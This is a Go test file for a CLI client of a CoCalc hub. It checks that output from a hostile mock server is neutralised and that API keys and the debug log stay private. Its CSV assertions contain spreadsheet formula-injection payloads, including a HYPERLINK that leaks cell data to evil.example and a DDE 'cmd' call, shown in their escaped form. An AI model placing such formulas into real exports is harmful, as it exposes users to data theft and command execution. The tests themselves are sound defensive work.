package cli

import (
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"cocalc-tui/hub/clean"
	"cocalc-tui/hub/hubtest"
)

// checkNoKey fails t if text shows key in any form the hostile hub echoes
// it in, as is or once cleaned (cleaning removes the zero-width space).
func checkNoKey(t *testing.T, where, text, key string) {
	t.Helper()
	checkKeyAbsent(t, where, text, key)
	checkKeyAbsent(t, where+", cleaned", clean.Line(text), key)
	for _, form := range hubtest.HostileKeyForms(key) {
		if strings.Contains(text, form) {
			t.Errorf("%s holds the key as %q", where, form)
		}
	}
}

// TestHostileModeEveryCommand runs every command against a hostile hub, to
// a terminal and to a pipe, in every output format, with --debug: nothing
// a terminal would act on reaches stdout or stderr, the key shows nowhere
// (stdout, stderr, the debug log), JSON is valid UTF-8, and no command
// crashes.
func TestHostileModeEveryCommand(t *testing.T) {
	server := hubtest.NewDemoServer()
	t.Cleanup(server.Close)
	key := hubtest.DemoAdminKey
	commandLines := [][]string{
		{"whoami"}, {"whoami", "--json"}, {"ping"}, {"ping", "--json"},
		{"search", "x"}, {"search", "x", "--admin"}, {"search", "x", "--admin", "--json"}, {"search", "x", "--admin", "--csv"},
		{"search", "-", "--admin"}, {"search", "-", "--json"}, {"search", "-", "--csv"},
		{"names", hubtest.DemoUserAccountID}, {"names", hubtest.DemoUserAccountID, "--json"},
		{"names", hubtest.DemoUserAccountID, "--csv"},
	}
	// The hostile error is 30 MB a call: each way of reporting a failure
	// (one line on stderr; a JSON Lines record; a bulk CSV) meets it once.
	errorLines := [][]string{{"whoami"}, {"ping", "--json"}, {"search", "x", "--admin"}, {"search", "-", "--json"},
		{"names", hubtest.DemoUserAccountID, "--csv"}}
	for _, fault := range []hubtest.Fault{hubtest.FaultHostile, hubtest.FaultHostileError} {
		server.SetFault(fault)
		for _, terminal := range []bool{false, true} {
			lines := commandLines
			if fault == hubtest.FaultHostileError {
				if !terminal {
					continue
				}
				lines = errorLines
			}
			for _, args := range lines {
				c := newCLI(t, server, key)
				c.env.vars["XDG_STATE_HOME"] = t.TempDir()
				c.terminal, c.width, c.stdin = terminal, 100, "x\ny\n"
				r := c.run(t, append(args, "--debug")...)
				where := fault.String() + ": " + describeRun(args, terminal, 100)
				if r.code != exitOK && r.code != exitFailure {
					t.Errorf("%s: exit %d: %s", where, r.code, r.stderr)
				}
				stdout := strings.ReplaceAll(r.stdout, "\r\n", "\n")
				tabSeparated := args[0] == "search" || args[0] == "names"
				if tabSeparated && !terminal && !slices.Contains(args, "--json") && !slices.Contains(args, "--csv") {
					checkTabSeparated(t, where+": stdout", stdout)
				} else {
					checkSafeForTerminal(t, where+": stdout", stdout)
				}
				checkSafeForTerminal(t, where+": stderr", r.stderr)
				checkNoKey(t, where+": stdout", r.stdout, key)
				checkNoKey(t, where+": stderr", r.stderr, key)
				checkNoKey(t, where+": the debug log", readDebugLog(t, c), key)
				if len(r.stderr) > 4000 {
					t.Errorf("%s: stderr of %d bytes", where, len(r.stderr))
				}
				if strings.Contains(strings.Join(args, " "), "--json") && r.code == exitOK {
					for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
						if !utf8.ValidString(line) || !json.Valid([]byte(line)) {
							// Indented JSON spans lines: check the whole.
							if !json.Valid([]byte(r.stdout)) || !utf8.ValidString(r.stdout) {
								t.Errorf("%s: not valid UTF-8 JSON: %.200q", where, r.stdout)
							}
							break
						}
					}
				}
			}
		}
	}
}

// TestHostileSearchOutputs checks what a person gets from the hostile
// accounts: marked ids, neutralised formulas, and a search's JSON that jq and
// Python can read.
func TestHostileSearchOutputs(t *testing.T) {
	server := hubtest.NewDemoServer()
	t.Cleanup(server.Close)
	server.SetFault(hubtest.FaultHostile)
	c := newCLI(t, server, hubtest.DemoAdminKey)
	c.terminal, c.width = true, 300
	r := c.run(t, "search", "x", "--admin")
	if !strings.Contains(r.stdout, "(not a UUID: 3f2a1c9e␛]52;c;?␇)") {
		t.Errorf("the ids that are no UUIDs are not marked:\n%s", r.stdout)
	}
	c.terminal = false
	r = c.run(t, "search", "x", "--admin", "--csv")
	for _, cell := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`, "'+1+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd",
		"'-2+3@example.net", `" Tab"`, "␍Return"} {
		if !strings.Contains(r.stdout, ","+cell+",") {
			t.Errorf("CSV lacks the neutralised cell %s:\n%s", cell, r.stdout)
		}
	}
	r = c.run(t, "search", "x", "--admin", "--json")
	var accounts []map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &accounts); err != nil || !utf8.ValidString(r.stdout) {
		t.Fatalf("search --json: %v", err)
	}
	for _, a := range accounts {
		if a["account_id"] == hubtest.HostileBytesAccountID && (a["first_name"] != "bad \uFFFD\uFFFD bytes" || a["last_name"] != "lone \uFFFD surrogate") {
			t.Errorf("invalid UTF-8 and the lone surrogate: %q, %q", a["first_name"], a["last_name"])
		}
	}
	if strings.Contains(r.stdout, `\ud800`) || strings.Contains(r.stdout, `\udc00`) {
		t.Errorf("a lone surrogate is left in the JSON")
	}
}

// TestNamesJSONRefusesANullAnswer: a getNames answer that is not an object
// fails the command, never prints spliced JSON.
func TestNamesJSONRefusesANullAnswer(t *testing.T) {
	server := hubtest.NewDemoServer()
	t.Cleanup(server.Close)
	server.SetFault(hubtest.FaultWrongShape, "system.getNames")
	c := newCLI(t, server, hubtest.DemoUserKey)
	for _, format := range []string{"--json", "--csv", ""} {
		args := []string{"names", hubtest.DemoUserAccountID}
		if format != "" {
			args = append(args, format)
		}
		r := c.run(t, args...)
		if r.code != exitFailure || r.stdout != "" || !strings.Contains(r.stderr, "the answer has an unexpected shape: got a JSON array, expected an object of names") {
			t.Errorf("%q: exit %d, stdout %q, stderr %q", args, r.code, r.stdout, r.stderr)
		}
	}
}

// TestSearchNeverSendsAKey: a key given as a query is refused before
// anything is sent, and shows nowhere.
func TestSearchNeverSendsAKey(t *testing.T) {
	server := startHub(t)
	for _, args := range [][]string{
		{"search", userKey}, {"search", "alice", "sk-SomeoneElsesKey00000001"}, {"search", strings.TrimPrefix(userKey, "sk-")},
	} {
		c := newCLI(t, server, userKey)
		c.env.vars["XDG_STATE_HOME"] = t.TempDir()
		server.ResetRequests()
		r := c.run(t, append(args, "--debug")...)
		if r.code != exitUsage {
			t.Errorf("%q: exit %d, want %d: %s", args, r.code, exitUsage, r.stderr)
		}
		debugLog, _ := os.ReadFile(filepath.Join(stateDir(c.env.getenv), "debug.log")) // none: refused before it opens
		for _, query := range args[1:] {
			if strings.Contains(r.stderr, query) || strings.Contains(string(debugLog), query) {
				t.Errorf("%q: the query shows in stderr or the log: %s", args, r.stderr)
			}
		}
		for _, req := range server.Requests() {
			if strings.Contains(string(req.Body), "userSearch") {
				t.Errorf("%q: a search was sent: %s", args, req.Body)
			}
		}
	}
	// search - reads a key among the queries: that one is refused, the
	// others run.
	c := newCLI(t, server, userKey)
	c.stdin = "alice\n" + userKey + "\nsk-SomeoneElsesKey00000001\n"
	r := c.run(t, "search", "-", "--json")
	if strings.Contains(r.stdout+r.stderr, "SomeoneElses") || strings.Contains(r.stdout+r.stderr, userKey) ||
		!strings.Contains(r.stdout, `{"query":"[redacted]","error":"the query looks like an API key; it was not sent"}`) {
		t.Errorf("search - with keys among the queries: exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
	}
}

// TestDebugLogIsPrivate: the log is a new file each time, 0600, which a
// process holding the old one open (another user's, when it was readable)
// never sees; a symbolic link at its place or on the way to it is refused,
// and so is a state folder others can change.
func TestDebugLogIsPrivate(t *testing.T) {
	server := startHub(t)
	c := newCLI(t, server, userKey)
	state := t.TempDir()
	c.env.vars["XDG_STATE_HOME"] = state
	path := filepath.Join(stateDir(c.env.getenv), "debug.log")
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	held, err := os.Open(path) // opened while it was readable by others
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	if r := c.run(t, "ping", "--debug"); r.code != exitOK {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the debug log: %v, mode %v; want 0600", err, info.Mode())
	}
	if log := readDebugLog(t, c); strings.HasPrefix(log, "old") || !strings.Contains(log, "msg=start") {
		t.Errorf("the log: %q", log)
	}
	if data, _ := io.ReadAll(held); string(data) != "old" {
		t.Errorf("a process holding the old log reads the new one: %q", data)
	}

	// A link at the log's place.
	target := filepath.Join(t.TempDir(), "elsewhere")
	if err := os.WriteFile(target, []byte("precious"), 0o600); err != nil {
		t.Fatal(err)
	}
	_ = os.Remove(path)
	if err := os.Symlink(target, path); err != nil {
		t.Fatal(err)
	}
	r := c.run(t, "ping", "--debug")
	want := "cocalc-tui: cannot write the debug log: refusing to write there: " + path + " is a symbolic link, which is not " +
		"followed here (remove it, or set XDG_STATE_HOME to a folder of yours)\n"
	if r.code != exitFailure || r.stderr != want {
		t.Errorf("a link at the log's place: exit %d, stderr %q\nwant %q", r.code, r.stderr, want)
	}
	// A link on the way: the state folder pointing elsewhere.
	_ = os.RemoveAll(filepath.Dir(path))
	if err := os.Symlink(filepath.Dir(target), filepath.Dir(path)); err != nil {
		t.Fatal(err)
	}
	r = c.run(t, "ping", "--debug")
	if r.code != exitFailure || !strings.Contains(r.stderr, filepath.Dir(path)+" is a symbolic link, which is not followed here") {
		t.Errorf("a linked state folder: exit %d, stderr %q", r.code, r.stderr)
	}
	if data, _ := os.ReadFile(target); string(data) != "precious" {
		t.Errorf("the link's target was written: %q", data)
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(target), "debug.log")); err == nil {
		t.Error("a log was written through the linked folder")
	}

	// A state folder others can write (root's own once wrote into a log
	// that belonged to nobody).
	_ = os.Remove(filepath.Dir(path))
	if err := os.Chmod(state, 0o777); err != nil {
		t.Fatal(err)
	}
	r = c.run(t, "ping", "--debug")
	want = "cocalc-tui: cannot write the debug log: refusing to write there: the folder " + state + " (permissions 0777) " +
		"lets other users replace what is in it; run: chmod go-w " + state + "\n"
	if r.code != exitFailure || r.stderr != want {
		t.Errorf("an open state folder: exit %d, stderr %q\nwant %q", r.code, r.stderr, want)
	}
}

// TestLongestTimeoutSaturates: the longest duration there is as --timeout
// works, rather than making every call fail at once.
func TestLongestTimeoutSaturates(t *testing.T) {
	server := startHub(t)
	c := newCLI(t, server, userKey)
	r := c.run(t, "ping", "--timeout", "2562047h47m16s")
	if r.code != exitOK || !strings.HasPrefix(r.stdout, "server time ") {
		t.Errorf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
}
